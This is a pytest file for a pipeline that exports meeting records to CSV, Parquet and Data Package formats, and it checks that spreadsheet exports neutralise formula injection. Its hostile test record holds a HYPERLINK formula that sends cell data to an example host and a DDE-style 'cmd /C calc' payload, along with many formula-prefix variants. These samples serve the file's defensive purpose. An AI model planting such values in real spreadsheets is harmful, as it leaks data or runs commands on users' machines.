"""Exports for other programs: spreadsheets, Parquet, the Data Package. Articles are written by strangers."""

from __future__ import annotations

import csv
import datetime
import json
from pathlib import Path
from typing import Any

import frictionless
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipeline import export_data, schema
from pipeline.errors import ExportError
from pipeline.export import export
from pipeline.export_csv import BOM
from pipeline.record import Record
from pipeline.version import VERSION
from tests.records import make_database, sample, samples

FORMULA = "=HYPERLINK(\"https://example.org/?\"&A1;'x')"


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_database(tmp_path_factory.mktemp("formats") / "thidua.db", [*samples(), hostile()])


def hostile() -> Record:
    """A fetched article whose text, title and names are formulas, line ends, separators and other scripts."""
    record = sample("gia-lai-cum-2-2025")
    text = f'{FORMULA}\r\n- a\n"b";=c\u2028\x00\U0001f600,,,\n'
    meeting = record.meetings[0]
    party = meeting.chairs[0].party.model_copy(update={"name": "@SUM(1+1)*cmd|' /C calc'!A0", "unit_id": None})
    changes = {name: [] for name in ("members", "figures", "winners", "people", "evidence")}
    cluster = meeting.cluster.model_copy(update={"id": "other", "name": "+1+1", "owner": None, "evidence": []})
    chair = meeting.chairs[0].model_copy(update={"party": party, "evidence": []})
    article = record.article.model_copy(
        update={"id": "hostile", "url": "https://x.example/1", "title": "\t=1", "byline": "＝1+1", "text": text}
        | {"source": "-x.example", "fetched_at": "2025-03-01T01:02:03+00:00"}
    )
    first = meeting.model_copy(
        update=changes | {"cluster": cluster, "chairs": [chair], "date": None, "venue": None, "review_year": -2024}
    )
    return Record.model_validate(record.model_copy(update={"article": article, "meetings": [first]}).model_dump())


def read(file: Path, encoding: str = "utf-8") -> dict[str, dict[str, str]]:
    with file.open(encoding=encoding, newline="") as opened:
        return {next(iter(row.values())): row for row in csv.DictReader(opened)}


# Spreadsheets


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("- tổng kết", "'- tổng kết"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\tx", "'\tx"),
        ("  =1", "'  =1"),
        ("\u200b=1", "'\u200b=1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\x00=1", "'\x00=1"),
        ("\u00a0=1", "'\u00a0=1"),
        ('"=1"', '\'"=1"'),
        ("＝1", "'＝1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("a;=1", "a;'=1"),
        ("a\n-1+1", "a\n'-1+1"),
        ("a\t @x", "a\t' @x"),
        # What is no formula stays as it is.
        ("", ""),
        ("huyện Đak Đoa", "huyện Đak Đoa"),
        ("a=b, c-d, e@f, 1+1", "a=b, c-d, e@f, 1+1"),
        ("2024-H1", "2024-H1"),
        ("-5", "-5"),
        ("+1.234,5", "+1.234,5"),
        ("'=1", "'=1"),
    ],
)
def test_cells_for_spreadsheets(tmp_path: Path, text: str, cell: str) -> None:
    record = sample("gia-lai-cum-2-2018")
    record = record.model_copy(update={"article": record.article.model_copy(update={"title": text})})
    export(make_database(tmp_path / "x.db", [record]), tmp_path / "out", "csv", excel=True, tables=["articles"])
    (row,) = read(tmp_path / "out" / "articles.csv", "utf-8-sig").values()
    assert row["title"] == cell


def test_no_cell_of_a_spreadsheet_export_is_a_formula(tmp_path: Path, database: Path) -> None:
    for file in export(database, tmp_path, "csv", excel=True):
        if file.suffix != ".csv":
            continue
        assert file.read_text(encoding="utf-8").startswith(BOM)
        for row in read(file, "utf-8-sig").values():
            for name, cell in row.items():
                if cell.strip().startswith(("=", "+", "-", "@", "＝")):
                    assert float(cell), f"{file.name} {name}: {cell}"
    assert read(tmp_path / "meetings.csv", "utf-8-sig")["hostile/1"]["review_year"] == "-2024"


def test_without_excel_texts_are_as_they_are(tmp_path: Path, database: Path) -> None:
    export(database, tmp_path, "csv")
    raw = (tmp_path / "articles.csv").read_text(encoding="utf-8")
    assert not raw.startswith(BOM)
    assert read(tmp_path / "articles.csv")["hostile"]["text"].startswith(FORMULA)


# Parquet


@pytest.fixture(scope="module")
def parquet(database: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, pa.Table]:
    folder = tmp_path_factory.mktemp("parquet")
    return {file.stem: pq.read_table(file) for file in export(database, folder, "parquet")}


@pytest.mark.parametrize(
    ("place", "kind"),
    [
        ("articles.text", pa.string()),
        ("articles.fetched_at", pa.timestamp("ms", tz="UTC")),
        ("units.valid_from", pa.date32()),
        ("units.latitude", pa.float64()),
        ("meetings.date", pa.string()),
        ("meetings.date_end", pa.date32()),
        ("meetings.kinds", pa.list_(pa.string())),
        ("meetings.status", pa.dictionary(pa.int32(), pa.string())),
        ("article_meetings.is_primary", pa.bool_()),
        ("figures.value", pa.float64()),
        ("figures.value_vnd", pa.int64()),
        ("evidence.start", pa.int64()),
        ("evidence.rule", pa.dictionary(pa.int32(), pa.string())),
    ],
)
def test_parquet_has_types(parquet: dict[str, pa.Table], place: str, kind: pa.DataType) -> None:
    table, _, column = place.partition(".")
    assert parquet[table].schema.field(column).type == kind


def test_parquet_has_the_values_of_the_csv_files(tmp_path: Path, database: Path, parquet: dict[str, pa.Table]) -> None:
    export(database, tmp_path, "csv")
    for name, table in parquet.items():
        rows = list(read(tmp_path / f"{name}.csv").values())
        assert table.column_names == list(rows[0]) if rows else True
        assert [{key: _cell(value) for key, value in row.items()} for row in table.to_pylist()] == rows, name


def _cell(value: Any) -> str:
    """A typed value as the CSV file has it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(int(value))
    if isinstance(value, float):
        return str(int(value)) if value.is_integer() else repr(value)
    return (
        json.dumps(value, ensure_ascii=False)
        if isinstance(value, list)
        else (value.isoformat() if isinstance(value, datetime.date) else str(value))
    )


def test_parquet_says_what_it_is(parquet: dict[str, pa.Table]) -> None:
    for name, table in parquet.items():
        told = {key.decode(): value.decode() for key, value in table.schema.metadata.items()}
        assert (told["version"], told["date"], told["licence"]) == (VERSION, "2025-03-01", "Apache-2.0")
        assert told["table"] == name
        assert all(field.metadata[b"description"] for field in table.schema)


def test_a_value_of_another_type_is_named(tmp_path: Path) -> None:
    record = sample("gia-lai-cum-2-2018")
    date = record.meetings[0].date
    assert date is not None
    meeting = record.meetings[0].model_copy(update={"date": date.model_copy(update={"end": "31/12"})})
    database = make_database(tmp_path / "x.db", [record.model_copy(update={"meetings": [meeting]})])
    with pytest.raises(ExportError, match=r"meetings\.date_end: '31/12' is no day"):
        export(database, tmp_path / "out", "parquet")
    assert list((tmp_path / "out").iterdir()) == []


# The Data Package


@pytest.fixture(scope="module")
def package(database: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("package")
    export(database, folder, "datapackage")
    return folder


def errors(folder: Path) -> list[str]:
    """What frictionless finds wrong with a package: kinds of errors."""
    report = frictionless.validate(str(folder / "datapackage.json"))
    return [error.type for task in report.tasks for error in task.errors] + [error.type for error in report.errors]


def test_the_package_is_valid(package: Path) -> None:
    assert errors(package) == []
    told = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    assert (told["version"], told["created"]) == (VERSION, "2025-03-01T00:00:00Z")
    assert told["licenses"][0]["name"] == "Apache-2.0"
    assert [resource["name"] for resource in told["resources"]] == [
        table.name for table in schema.TABLES if table.name != "runs"
    ]


@pytest.mark.parametrize(
    ("table", "old", "new", "kind"),
    [
        ("clusters", ",cum,", ",cumm,", "constraint-error"),
        ("chairs", "qd124:", "qd999:", "foreign-key"),
        ("article_meetings", ",1,", ",one,", "type-error"),
    ],
)
def test_the_schema_of_the_package_finds_faults(
    tmp_path: Path, package: Path, table: str, old: str, new: str, kind: str
) -> None:
    for file in package.iterdir():
        (tmp_path / file.name).write_bytes(file.read_bytes())
    text = (tmp_path / f"{table}.csv").read_text(encoding="utf-8")
    assert old in text
    (tmp_path / f"{table}.csv").write_text(text.replace(old, new, 1), encoding="utf-8", newline="")
    assert kind in errors(tmp_path)


def test_the_package_is_the_data_dictionary(package: Path) -> None:
    told = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    for resource in told["resources"]:
        described = export_data.described(resource["name"])
        texts = described["columns"] | export_data.metadata()["exports"]["meetings"]["columns"]
        for field in resource["schema"]["fields"]:
            own = described["columns"].get(field["name"])
            assert field["description"] == (texts[field["name"]] if own is None else own)
        with (package / resource["path"]).open(encoding="utf-8", newline="") as file:
            assert next(csv.reader(file)) == [field["name"] for field in resource["schema"]["fields"]]


def test_words_that_a_column_can_hold_come_from_the_record(package: Path) -> None:
    resources = {r["name"]: r for r in json.loads((package / "datapackage.json").read_text("utf-8"))["resources"]}

    def choices(table: str, column: str) -> list[str] | None:
        (field,) = [field for field in resources[table]["schema"]["fields"] if field["name"] == column]
        return field.get("constraints", {}).get("enum")  # type: ignore[no-any-return]

    assert choices("chairs", "role") == ["chair", "deputy"]
    assert choices("winners", "status") == ["voted", "proposed", "awarded"]
    assert choices("figures", "status") == ["actual", "estimate", "target"]
    assert choices("article_meetings", "date_precision") == ["day", "month", "year"]
    assert choices("chairs", "party_name") is None


def test_a_part_of_the_package_refers_to_no_table_that_is_not_there(tmp_path: Path, database: Path) -> None:
    export(database, tmp_path, "datapackage", tables=["chairs", "units"])
    assert errors(tmp_path) == []
    resources = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))["resources"]
    referred = {key["reference"]["resource"] for r in resources for key in r["schema"]["foreignKeys"]}
    assert referred == {"units", ""}


def test_an_empty_package_is_valid(tmp_path: Path) -> None:
    export(make_database(tmp_path / "x.db", []), tmp_path / "out", "datapackage")
    assert errors(tmp_path / "out") == []
